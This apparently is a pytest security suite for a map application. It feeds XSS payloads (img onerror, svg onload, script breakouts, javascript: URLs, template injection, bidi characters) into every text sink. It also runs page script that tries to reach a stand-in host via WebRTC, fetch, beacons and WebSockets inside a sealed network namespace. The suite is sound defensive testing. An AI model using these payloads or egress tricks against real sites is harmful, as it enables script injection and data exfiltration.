"""Hostile text in every place where the map shows text, in the real engine: it stays text."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PySide6.QtWidgets import QApplication

from pocplanner.analysis.event_look import Sign
from pocplanner.gui.map.event_points import Drawn
from pocplanner.gui.map.view import MapView
from tests import makers
from tests.gui.engine import as_root, run, showing, wait_for

#: What people put into names to break maps.
PAYLOADS = {
    "image": "<img src=x onerror=\"document.title='hit'\">",
    "drawing": "<svg onload=\"document.title='hit'\"><script>document.title='hit'</script></svg>",
    "end of script": "</script><script>document.title='hit'</script>",
    "template": "${document.title='hit'}",
    "back-tick": "`+(document.title='hit')+`",
    "escape": "\\u003cimg src=x onerror=document.title='hit'\\u003e",
    "hex escape": "\\x3cimg src=x onerror=document.title='hit'\\x3e",
    "address": "javascript:document.title='hit'",
    "curly": "{{constructor.constructor(\"document.title='hit'\")()}}",
    "data": "data:text/html,<script>parent.document.title='hit'</script>",
    "style": '"></span><style>*{background:url(http://127.0.0.1:9/x)}</style>',
    "textarea": '</textarea></title></style><iframe srcdoc="<script>top.x=1</script>">',
    "direction": "\u202egnp.exe\u202c \u2066\u200f\u061c x \u200b \ufeff",
    "long": "<b onmouseover=document.title='hit'>" + "Kérendi " * 130_000,
}
_CANARY = "Canary"


@pytest.fixture(scope="module")
def view(qapp: QApplication) -> Iterator[MapView]:
    """One map for all payloads."""
    with showing(_CANARY) as made:
        yield made


def _features(payload: str) -> list[tuple[str, dict[str, Any]]]:
    """A feature for each sink: the text that must be found again stands in it."""
    ring = [[0.0, 0.0], [0.0, 3.0], [3.0, 3.0]]
    point = {"type": "point", "lon": 0.0, "lat": 0.0, "colour": "#123456", "pick": True}
    shape = {"at": ring, "colour": "#123456", "pick": True}
    sign = {"letter": "P", "shape": "square"}
    return [
        ("tip of a dot", {**point, "id": "dot", "label": payload}),
        ("tip of a sign", {**point, **sign, "id": "sign", "label": payload}),
        ("tip of an area", {**shape, "id": "area", "type": "polygon", "label": payload}),
        ("tip of a line", {**shape, "id": "line", "type": "line", "label": payload}),
        ("letter of a sign", {**point, **sign, "id": "letter", "label": "", "letter": payload}),
        ("name of an id", {**point, **sign, "id": payload[:4000], "label": "id"}),
        ("name on the map", {**point, "id": "caption", "label": "", "caption": payload}),
        ("shape of a sign", {**point, "id": "shape", "label": "", "shape": payload[:4000]}),
        (
            "drawing of a sign",
            {**point, **sign, "id": "glyph", "label": "", "glyph": payload[:400]},
        ),
        ("colour", {**point, **sign, "id": "colour", "label": "", "colour": payload[:4000]}),
        ("hatching", {**shape, "id": "hatch", "type": "polygon", "hatch": payload[:400]}),
        ("record of a drawing", {**point, "id": "of", "of": payload[:4000], "label": ""}),
    ]


#: Points at everything that is drawn, one after another, and hands back what the tip said.
_OPEN_TIPS = (
    "const said = []; for (const layer of window.POC.layers.values())"
    " for (const f of [...layer.points.values(), ...layer.shapes.values()].map((x) => x.f)) {"
    " window.POC.showTip(f.label, {x: 50, y: 50});"
    " if (f.label) said.push(window.POC.tipped()); } window.POC.showTip(''); return said;"
)
#: What is drawn of a payload on the canvas: letters are cut at three signs, names at eighty.
_NAMED = "window.POC.acts.focus({west: -1, south: -1, east: 1, north: 1}); return 1;"


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_stays_text_in_every_place(view: MapView, name: str) -> None:
    payload = PAYLOADS[name]
    said = len(view.page.said)
    layers = ["plain", payload[:4000]]
    places = _features(payload)
    for layer in layers:
        view.put(layer, [feature for _, feature in places])
        view.show_layer(layer, False)
        view.show_layer(layer, True)
        view.strength(layer, 0.5)
    view.order(layers)
    view.choose([payload[:4000], "dot", "area"])
    view.words({"zoom_in": payload[:4000], "signs": payload[:4000], payload[:400]: payload[:400]})
    run(view, _NAMED)
    count = "let n = 0; for (const l of window.POC.layers.values()) n += l.points.size"
    wanted = len(places) * len(layers)
    assert wait_for(lambda: run(view, f"{count} + l.shapes.size; return n;") >= wanted)
    tips = run(view, _OPEN_TIPS)
    assert tips.count(payload) == 4 * len(layers)
    assert set(tips) == {payload, "id"}
    assert wait_for(lambda: run(view, "return window.POC.named.length;"))
    assert set(run(view, "return window.POC.named;")) == {payload[:80]}
    assert wait_for(lambda: payload in run(view, _SPOKEN))
    assert set(run(view, _SPOKEN)) == {payload, "id"}
    zoom = "return document.querySelector('.leaflet-control-zoom-in').getAttribute('aria-label');"
    assert run(view, zoom) == payload[:4000]
    assert run(view, _STRANGERS) == []
    assert run(view, "return document.title;") == _CANARY
    # A drawing that there is not is asked for once, of our own scheme, and refused.
    heard = [line for line in view.page.said[said:] if "poc://app/sign/" not in line]
    assert heard == []
    for layer in layers:
        view.clear(layer)
    view.choose([])


_SPOKEN = "return [...document.querySelectorAll('.sign')].map((e) => e.getAttribute('aria-label'));"


#: Elements that text of a record could have made, and attributes that run code.
_STRANGERS = (
    "return [...document.querySelectorAll('img, svg script, iframe, style, textarea, b, object,"
    " embed, form, link:not([rel=stylesheet]), base, meta:not([charset])')].map((e) => e.outerHTML)"
    ".concat([...document.querySelectorAll('body *')].filter((e) => [...e.attributes].some((a) =>"
    " a.name.startsWith('on'))).map((e) => e.outerHTML));"
)


@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_stays_text_in_clusters_and_over_two_windows(view: MapView, name: str) -> None:
    """Signs of events are drawn, as dots and as counts; the names of two windows are text."""
    payload = PAYLOADS[name][:4000]
    said = len(view.page.said)
    events = makers.some_events()
    every = Drawn(np.ones(len(events), bool), np.zeros(len(events), np.uint8))
    signs = (Sign(0, payload, "#123456", payload), Sign(1, payload, payload, "A"))
    view.focus(20.5, -9.5, 21.5, -8.5)
    painted = "return window.pocPaintedBeside;"
    for show_as in ("dots", "groups"):
        told = view.events.show(events, every, signs, show_as)
        beside = view.beside.show(events, every, signs, show_as)
        view.show_beside((payload, f"2 {payload}"), beside)
        view.show_events(told)
        if show_as == "dots":
            assert wait_for(lambda now=beside["rev"]: run(view, painted) == now, 10)
    assert wait_for(lambda: run(view, "return window.pocView.groups;") > 0, 10)
    names = run(view, "return window.pocBeside();")
    assert names == [payload, f"2 {payload}"]
    spoken = "return document.querySelector('.beside').getAttribute('aria-label');"
    assert run(view, spoken) == f"2 {payload}"
    assert run(view, _STRANGERS) == []
    assert run(view, "return document.title;") == _CANARY
    assert view.page.said[said:] == []
    view.show_beside()
    view.show_events(view.events.hidden())


@pytest.mark.parametrize("name", [n for n in PAYLOADS if n != "long"])
def test_hostile_text_stays_text_in_the_title(qapp: QApplication, name: str) -> None:
    payload = PAYLOADS[name]
    with showing(payload) as view:
        shown = run(view, "return document.querySelector('title').textContent;")
        assert shown == payload
        spoken = run(view, "return document.querySelector('.folium-map').ariaLabel;")
        assert spoken == payload
        assert run(view, _STRANGERS) == []
        assert view.view.accessibleName() == payload


def test_text_cannot_leave_its_command(view: MapView) -> None:
    """Commands travel as JSON: signs that end lines or scripts elsewhere mean nothing in it."""
    odd = "\u2028\u2029\u0000\x1b[31m\"\\',]}\n\r\t</script>"
    view.put("odd", [{**_features(odd)[0][1]}])
    assert wait_for(lambda: odd in run(view, _OPEN_TIPS))
    view.clear("odd")


def test_thirty_megabytes_of_features_are_drawn(view: MapView) -> None:
    corners = [[i / 1000, (i * 7 % 1000) / 1000] for i in range(4_000)]
    features = [
        {
            "id": f"a{n}",
            "type": "polygon",
            "at": [[x + n % 20, y + n // 20] for x, y in corners],
            "colour": "#123456",
            "label": "Area " + "é" * 500,
        }
        for n in range(400)
    ]
    assert sum(len(json.dumps(f)) for f in features) > 30e6
    count = "return window.pocCount('areas');"
    before = run(view, count)
    view.put("areas", features)
    assert wait_for(lambda: run(view, count, 60) == before + 400, 60)
    view.clear("areas")
    assert wait_for(lambda: run(view, count, 60) == before, 60)


# --- nothing leaves the machine -----------------------------------------------------------------

_COUNTED = """
import os
from tests.gui.engine import run, settle, showing
from PySide6.QtWidgets import QApplication
from pathlib import Path

def packets():
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    rows = {l.split(":")[0].strip(): l.split(":")[1].split() for l in lines}
    return sum(int(r[1]) + int(r[9]) for r in rows.values())

app = QApplication([])
before = packets()
with showing() as view:
    settle(1.0)
    quiet = packets()
    run(view, '''
        const f = document.createElement('iframe'); document.body.append(f);
        const made = f.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
        window.tried = typeof made;
        if (made) {
            const p = new made({iceServers: [
                {urls: 'stun:10.9.9.2:3478'},
                {urls: 'turn:10.9.9.2:3478?transport=tcp', username: 'a', credential: 'b'},
                {urls: 'stun:stun.example.org'}]});
            p.createDataChannel('x');
            p.createOffer().then((o) => p.setLocalDescription(o));
            window.kept = p;
        }
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender']) {
            const l = document.createElement('link');
            l.rel = rel; l.href = 'https://example.org/'; l.as = 'image'; document.head.append(l);
        }
        for (const a of ['http://10.9.9.2/', 'https://example.org/', 'ws://10.9.9.2/']) {
            fetch(a).catch(() => 0); new Image().src = a;
            try { navigator.sendBeacon(a, 'x'); } catch (e) {}
            f.contentWindow.fetch(a).catch(() => 0); new f.contentWindow.Image().src = a;
            try { new f.contentWindow.WebSocket('ws://10.9.9.2/'); } catch (e) {}
        }
        try { location = 'http://10.9.9.2/'; } catch (e) {}
        return 1;
    ''')
    settle(4.0)
    print("TRIED", run(view, "return window.tried;"))
print("PACKETS", before, quiet, packets())
"""


#: A day's work at the window on a sealed exercise: open, import, look at the map, draw, hold two
#: windows of time side by side, undo, write a map, a paper and data, lock, open again, close.
_WORKED = """
import os, sys, tempfile
from datetime import date
from pathlib import Path
folder = Path(tempfile.mkdtemp())
os.environ["XDG_CONFIG_HOME"] = str(folder)  # no setting of this machine is touched
from tests.gui.engine import run, settle, wait_for
from PySide6.QtWidgets import QApplication
from pocplanner.analysis.time_windows import TimeWindow
from pocplanner.commands import drawing, mission
from pocplanner.gui import dialogs
from pocplanner.gui.imports.dialog import ImportDialog
from pocplanner.gui.map.picture_dialog import write

from pocplanner.gui.window import Window
from pocplanner.model.community import Community
from pocplanner.model.guard import Audience
from pocplanner.model.places import Area
from pocplanner.report.map_paper import MapChoice
from pocplanner.settings import Settings
from pocplanner.words import Words

def packets():
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    rows = {l.split(":")[0].strip(): l.split(":")[1].split() for l in lines}
    return sum(int(r[1]) + int(r[9]) for r in rows.values())

SECRET = "six words that nobody guesses"
app = QApplication([])
before = packets()
made = mission.create(folder / "x.pocplan", "Oloria", SECRET, "PoC adviser")
with made.edit("edit.mission.change"):
    made.put(made.mission.model_copy(update={"exercise": True}))
made.close()
asked = []
dialogs.PassphraseDialog.passphrase = lambda self: asked.append(1) or SECRET
told = []
dialogs.tell = lambda parent, words, problem: told.append(problem.key)
window = Window(Words("en"), Settings(show_help=False, show_tour=False))
window.show()
assert window.open_path(folder / "x.pocplan")
sheet = folder / "sheet.csv"
rows = [f"K{n},2021-{1 + n % 9:02}-03,killing,Ridge Column,civilians,-9.01,21.02,{n % 4}"
        for n in range(40)]
head = "id,date,type,perpetrator,victim,latitude,longitude,deaths"
sheet.write_text("\\n".join([head, *rows]) + "\\n")
window.import_paths([sheet])
dialog = window.findChildren(ImportDialog)[-1]
assert wait_for(lambda: not dialog.jobs.busy, 60)
dialog.keep_button.click()
assert wait_for(lambda: not dialog.jobs.busy and dialog.kept is not None, 60)
dialog.skip_button.click()
window.turn_to("map")
page = window.page("map")
assert wait_for(lambda: page.view is not None and page.view.is_up, 60)
page.tools.draw("Community")
page.view.drawn.emit("point", [(21.0, -9.0)])
page.tools.draw("Area")
page.view.drawn.emit("area", [(20.0, -10.0), (22.0, -10.0), (22.0, -8.0)])
desk = window.desk
ring = [(20.0, -10.0), (22.0, -10.0), (21.0, -7.0)]
drawing.reshape(desk.project, desk.project.all(Area)[0].id, [ring])
window.undo()
desk.choice.put_beside(True)
desk.choice.move(TimeWindow(date(2021, 5, 1), date(2021, 9, 1)), "before_after")
assert wait_for(lambda: len(run(page.view, "return window.pocBeside();")) == 2, 20)
settle(1.0)
drawn = run(page.view, "return window.pocCount('communities') + window.pocCount('areas');")

def job(start):
    start()
    assert wait_for(lambda: not desk.jobs.busy, 90)
    settle(0.1)

core = Audience.CORE
choice = MapChoice(layers=("areas", "communities", "events"))
job(lambda: write(desk, core, "en", folder / "m.png", choice, "a4"))
window.turn_to("report")
report = window.page("report")
job(report.preview)
job(lambda: report.export_to(folder / "p.pdf"))
from pocplanner.commands import export_data
from pocplanner.commands.export_layers import Choice
layers = Choice(layers=("communities",))
work = export_data.write_data(desk.snapshot, core, "en", folder / "d.geojson", layers)
job(lambda: desk.work("data.job", work, lambda found: export_data.keep(desk.project, found)))
left = sorted(p.name for p in folder.glob("[mpd].*"))
window.locking.lock()
assert wait_for(lambda: len(asked) == 2 and desk.project is not None, 30)
events = len(desk.snapshot.events)
window.turn_to("map")
settle(1.5)
desk.leave()
window.close()
settle(0.5)
print("DRAWN", drawn)
print("LEFT", *left)
print("EVENTS", events)
print("TOLD", *told, ".")
print("PACKETS", before, packets())
"""


def _network(script: str) -> list[str]:
    """The command that runs a script where there is a network of its own that leads nowhere."""
    lay = (
        "ip link set lo up && ip link add v0 type veth peer name v1 && "
        "sysctl -qw net.ipv6.conf.all.disable_ipv6=1; "
        "ip addr add 10.9.9.1/24 dev v0 && ip link set v0 arp off && ip link set v0 up && "
        "ip link set v1 up && ip route add default via 10.9.9.2 dev v0 && "
        'exec "$0" -c "$1"'
    )
    return ["unshare", "-n", "sh", "-c", lay, sys.executable, script]


def _told_alone(script: str, repository: Path) -> dict[str, str]:
    """What a script says where there is no other network; skips aloud where none can be made."""
    if not (as_root() and shutil.which("unshare") and shutil.which("ip")):
        pytest.skip("a network of its own needs root, unshare and ip")
    told = subprocess.run(
        _network("print('LAID')"), capture_output=True, text=True, timeout=30, cwd=repository
    )
    if "LAID" not in told.stdout:
        pytest.skip("this machine does not allow a network of its own: " + told.stderr[-100:])
    told = subprocess.run(
        _network(script),
        capture_output=True,
        text=True,
        timeout=120,
        cwd=repository,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(repository)},
    )
    lines = dict(line.split(" ", 1) for line in told.stdout.splitlines() if " " in line)
    assert "PACKETS" in lines, told.stderr[-2000:]
    return lines


def test_not_one_packet_leaves_while_the_page_tries(repository: Path) -> None:
    lines = _told_alone(_COUNTED, repository)
    before, quiet, after = (int(n) for n in lines["PACKETS"].split())
    assert lines["TRIED"] == "function", "the attack itself must be able to try"
    assert (quiet - before, after - before) == (0, 0)


def test_not_one_packet_leaves_while_somebody_works(repository: Path) -> None:
    lines = _told_alone(_WORKED, repository)
    before, after = (int(n) for n in lines["PACKETS"].split())
    assert int(lines["DRAWN"]) >= 2, "the map must have been there to send anything"
    assert lines["EVENTS"] == "40", "what was imported is there after the lock"
    assert lines["LEFT"].split() == ["d.geojson", "m.png", "p.pdf"], lines["TOLD"]
    assert after - before == 0
